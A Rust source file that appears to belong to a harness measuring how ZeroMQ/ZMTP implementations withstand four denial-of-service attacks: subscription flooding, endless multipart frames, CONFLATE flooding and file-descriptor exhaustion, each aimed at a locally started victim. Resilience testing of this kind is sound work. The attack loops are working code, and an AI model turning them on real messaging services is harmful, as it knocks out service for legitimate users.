//! The four attacks, each against a victim started for it, each returning one result row:
//! memory (peak, and after the attacker left), fds, and what the legit peer experienced.

use crate::victim::Victim;
use crate::zmtp::{self, Peer, MORE};
use std::io::Write;
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// How long a peer waits for the victim's handshake or a message.
const PATIENCE: Duration = Duration::from_secs(300);

/// One result: the table's cells after the attack and library names.
pub struct Row {
    /// Peak resident memory, MiB.
    pub peak_mib: u64,
    /// Resident memory after the attacker left (or at the end), MiB.
    pub after_mib: u64,
    /// Open fds at the peak of the attack.
    pub fds: usize,
    /// What the attack did and what the legit peer saw.
    pub notes: String,
}

fn mib(kib: u64) -> u64 {
    kib / 1024
}

/// A topic of 199 pseudo-random bytes (distinct for distinct `i`; never `tick`).
fn topic(i: u64) -> Vec<u8> {
    let mut x = i.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    let mut t: Vec<u8> = (0..191)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    t.extend_from_slice(&i.to_be_bytes());
    if t.starts_with(b"tick") {
        t[0] = 0;
    }
    t
}

/// What the legit subscriber saw: its longest wait between two messages, and how many of
/// the publisher's numbered messages it missed.
struct LegitSub {
    stop: Arc<AtomicBool>,
    first: Arc<(Mutex<bool>, std::sync::Condvar)>,
    thread: JoinHandle<(Duration, u64)>,
}

impl LegitSub {
    fn start(endpoint: &str) -> Result<LegitSub, String> {
        let mut peer = Peer::connect(endpoint, 1, "SUB", PATIENCE).map_err(|e| e.to_string())?;
        peer.stream
            .write_all(&zmtp::command(b"SUBSCRIBE", b"tick"))
            .map_err(|e| e.to_string())?;
        peer.stream
            .set_read_timeout(Some(Duration::from_millis(200)))
            .map_err(|e| e.to_string())?;
        let stop = Arc::new(AtomicBool::new(false));
        let first = Arc::new((Mutex::new(false), std::sync::Condvar::new()));
        let (stop2, first2) = (stop.clone(), first.clone());
        let thread = std::thread::spawn(move || {
            let (mut longest, mut lost) = (Duration::ZERO, 0);
            let (mut previous, mut expected): (Option<Instant>, Option<u64>) = (None, None);
            while !stop2.load(Ordering::SeqCst) {
                let Ok(m) = peer.read_message() else {
                    continue;
                };
                let now = Instant::now();
                if let Some(p) = previous {
                    longest = longest.max(now - p);
                } else {
                    *first2.0.lock().unwrap() = true;
                    first2.1.notify_all();
                }
                previous = Some(now);
                let seq = m
                    .get(4..12)
                    .map_or(0, |s| u64::from_be_bytes(s.try_into().unwrap()));
                if let Some(e) = expected {
                    lost += seq.saturating_sub(e);
                }
                expected = Some(seq + 1);
            }
            (longest, lost)
        });
        let legit = LegitSub {
            stop,
            first,
            thread,
        };
        let (lock, ready) = &*legit.first;
        let guard = lock.lock().unwrap();
        let (got, _) = ready
            .wait_timeout_while(guard, PATIENCE, |got| !*got)
            .unwrap();
        if !*got {
            return Err("the legit subscriber got nothing".into());
        }
        drop(got);
        Ok(legit)
    }

    fn finish(self) -> (Duration, u64) {
        self.stop.store(true, Ordering::SeqCst);
        self.thread.join().unwrap_or_default()
    }
}

/// (a) One SUB (ZMTP 3.0, subscription messages) sends `count` distinct 199-byte
/// subscriptions, then `tick`, and waits until it receives a tick (all applied); then leaves.
pub fn subscriptions(victim: Victim, endpoint: &str, count: u64) -> Result<Row, String> {
    let legit = LegitSub::start(endpoint)?;
    let mut attacker = Peer::connect(endpoint, 0, "SUB", PATIENCE).map_err(|e| e.to_string())?;
    let mut writer = attacker.stream.try_clone().map_err(|e| e.to_string())?;
    let start = Instant::now();
    let sender = std::thread::spawn(move || -> std::io::Result<()> {
        let mut batch = Vec::with_capacity(1 << 20);
        for i in 0..count {
            batch.extend(zmtp::frame(0, &[&[1][..], &topic(i)].concat()));
            if batch.len() >= 1 << 20 {
                writer.write_all(&batch)?;
                batch.clear();
            }
        }
        batch.extend(zmtp::frame(0, b"\x01tick"));
        writer.write_all(&batch)
    });
    attacker
        .read_message()
        .map_err(|e| format!("attacker: {e}"))?;
    let applied = start.elapsed();
    sender
        .join()
        .map_err(|_| "sender panicked")?
        .map_err(|e| e.to_string())?;
    let (peak, fds) = (victim.peak_kib(), victim.fds());
    drop(attacker);
    let left = Instant::now();
    let after = victim.settled_rss_kib(Duration::from_secs(60));
    let settled = left.elapsed().saturating_sub(Duration::from_secs(2));
    let (longest, lost) = legit.finish();
    victim.stop();
    Ok(Row {
        peak_mib: mib(peak),
        after_mib: mib(after),
        fds,
        notes: format!(
            "applied in {:.1} s, memory settled {:.1} s after leaving; legit: longest gap {} ms, {lost} lost",
            applied.as_secs_f64(),
            settled.as_secs_f64(),
            longest.as_millis()
        ),
    })
}

/// A legit PUSH sending a numbered message every 100 ms until stopped; returns how many it
/// sent.
fn legit_pusher(endpoint: &str, stop: Arc<AtomicBool>) -> JoinHandle<Result<u64, String>> {
    let endpoint = endpoint.to_string();
    std::thread::spawn(move || {
        let mut peer =
            Peer::connect(&endpoint, 1, "PUSH", PATIENCE).map_err(|e| format!("legit: {e}"))?;
        let mut sent = 0u64;
        while !stop.load(Ordering::SeqCst) {
            let message = zmtp::frame(0, &sent.to_be_bytes());
            peer.stream
                .write_all(&message)
                .map_err(|e| format!("legit: {e}"))?;
            sent += 1;
            std::thread::sleep(Duration::from_millis(100));
        }
        Ok(sent)
    })
}

/// (b) One PUSH sends 1 MiB frames with MORE set, never ending the message, `mib` MiB in all
/// (or until the victim drops it), while a legit PUSH sends a message every 100 ms.
pub fn endless_multipart(victim: Victim, endpoint: &str, total_mib: u64) -> Result<Row, String> {
    let stop = Arc::new(AtomicBool::new(false));
    let legit = legit_pusher(endpoint, stop.clone());
    let before = victim.rss_kib();
    let mut attacker = Peer::connect(endpoint, 1, "PUSH", PATIENCE).map_err(|e| e.to_string())?;
    let mut frame = zmtp::header(MORE, 1 << 20);
    frame.resize(frame.len() + (1 << 20), 0x5a);
    let (mut sent, mut dropped_at, mut fds) = (0, None, 0);
    while sent < total_mib {
        if attacker.stream.write_all(&frame).is_err() {
            dropped_at = Some(sent);
            break;
        }
        sent += 1;
        if sent % 64 == 0 {
            fds = fds.max(victim.fds());
        }
    }
    let grown = victim.rss_kib().saturating_sub(before);
    let peak = victim.peak_kib();
    drop(attacker);
    let after = victim.settled_rss_kib(Duration::from_secs(20));
    stop.store(true, Ordering::SeqCst);
    let legit_sent = legit.join().map_err(|_| "legit panicked")??;
    let outcome = victim.stop();
    let received = outcome.received.unwrap_or(0);
    let drop_note = match dropped_at {
        Some(at) => format!("dropped after {at} MiB"),
        None => format!(
            "not dropped; RSS grew {:.2} bytes per byte sent",
            grown as f64 / (sent as f64 * 1024.0)
        ),
    };
    Ok(Row {
        peak_mib: mib(peak),
        after_mib: mib(after),
        fds,
        notes: format!("{sent} MiB sent, {drop_note}; legit: {received} of {legit_sent} received"),
    })
}

/// (c) One PUSH sends 4 KiB numbered messages as fast as it can for `seconds` to a CONFLATE
/// PULL that reads 10 per second.
pub fn conflate(victim: Victim, endpoint: &str, seconds: u64) -> Result<Row, String> {
    let mut attacker = Peer::connect(endpoint, 1, "PUSH", PATIENCE).map_err(|e| e.to_string())?;
    let deadline = Instant::now() + Duration::from_secs(seconds);
    let (mut sent, mut fds) = (0u64, 0);
    let mut batch = Vec::new();
    while Instant::now() < deadline {
        batch.clear();
        for _ in 0..64 {
            let mut body = vec![0u8; 4096];
            body[..8].copy_from_slice(&sent.to_be_bytes());
            batch.extend(zmtp::frame(0, &body));
            sent += 1;
        }
        attacker
            .stream
            .write_all(&batch)
            .map_err(|e| e.to_string())?;
        if sent % (64 * 256) == 0 {
            fds = fds.max(victim.fds());
        }
    }
    let peak = victim.peak_kib();
    let after = victim.rss_kib();
    drop(attacker);
    std::thread::sleep(Duration::from_millis(300));
    let outcome = victim.stop();
    Ok(Row {
        peak_mib: mib(peak),
        after_mib: mib(after),
        fds,
        notes: format!(
            "{} MiB sent in {seconds} s; {} reads, the last got message {} of {sent}",
            sent * 4 / 1024,
            outcome.received.unwrap_or(0),
            outcome.last.map_or("-".into(), |l| (l + 1).to_string()),
        ),
    })
}

/// (d) `count` raw connections that never greet use up the victim's fds (its `ulimit -n` is
/// set small by the caller); a legit PUSH connects meanwhile and sends 10 messages once
/// greeted; the attacker's connections close 2 s later.
pub fn fd_exhaustion(victim: Victim, endpoint: &str, count: usize) -> Result<Row, String> {
    let addr = endpoint.strip_prefix("tcp://").unwrap_or(endpoint);
    let mut held = Vec::new();
    for _ in 0..count {
        match TcpStream::connect(addr) {
            Ok(s) => held.push(s),
            Err(_) => break,
        }
    }
    std::thread::sleep(Duration::from_millis(500));
    let fds = victim.fds();
    let endpoint2 = endpoint.to_string();
    let legit = std::thread::spawn(move || -> Result<u64, String> {
        let mut peer = Peer::connect(&endpoint2, 1, "PUSH", Duration::from_secs(10))
            .map_err(|e| format!("never greeted ({e})"))?;
        for i in 0u64..10 {
            peer.stream
                .write_all(&zmtp::frame(0, &i.to_be_bytes()))
                .map_err(|e| e.to_string())?;
        }
        std::thread::sleep(Duration::from_secs(1));
        Ok(10)
    });
    std::thread::sleep(Duration::from_secs(2));
    let opened = held.len();
    drop(held);
    let legit_sent = legit.join().map_err(|_| "legit panicked")?;
    std::thread::sleep(Duration::from_millis(500));
    let (peak, after) = (victim.peak_kib(), victim.rss_kib());
    let outcome = victim.stop();
    let legit_note = match legit_sent {
        Ok(n) => format!("{} of {n} received", outcome.received.unwrap_or(0)),
        Err(e) => format!("0 of 10 received: {e}"),
    };
    Ok(Row {
        peak_mib: mib(peak),
        after_mib: mib(after),
        fds,
        notes: format!("{opened} idle connections held 2 s; legit: {legit_note}"),
    })
}
